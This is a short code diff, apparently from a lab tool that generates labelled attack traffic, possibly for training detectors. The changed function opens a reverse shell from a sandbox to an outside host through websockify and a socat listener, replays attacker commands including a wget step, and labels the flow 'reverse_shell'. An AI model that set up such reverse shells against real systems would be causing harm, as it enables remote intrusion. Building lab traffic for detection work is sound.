@@ -464,7 +464,9 @@ def websocket_shell_8080(lab_: Lab) -> list[Label]:
     with service(lab_, lab_.out, "websockify", f"{OUTSIDE_IP}:8080", "127.0.0.1:4444", ready_port=8080):
         reverse_shell(lab_, listener=["socat", "file:{tty},raw,echo=0", "tcp-listen:4444,bind=127.0.0.1"],
                       listen_port=4444,
-                      shell=[DEBIAN_PYTHON, str(SRC / "ws_shell.py"), f"ws://{OUTSIDE_IP}:8080/"],
+                      # the script's text, not its path: the sandbox gets a /tmp of its own, which hides a
+                      # checkout under /tmp
+                      shell=[DEBIAN_PYTHON, "-c", (SRC / "ws_shell.py").read_text(), f"ws://{OUTSIDE_IP}:8080/"],
                       lines=["id", "uname -a", "ls -la", "ps aux | head", "cd /tmp; ls", WGET, "exit"], seed=20,
                       typo=0.1)
     return [(SANDBOX_IP, f"{OUTSIDE_IP}:8080", "reverse_shell",
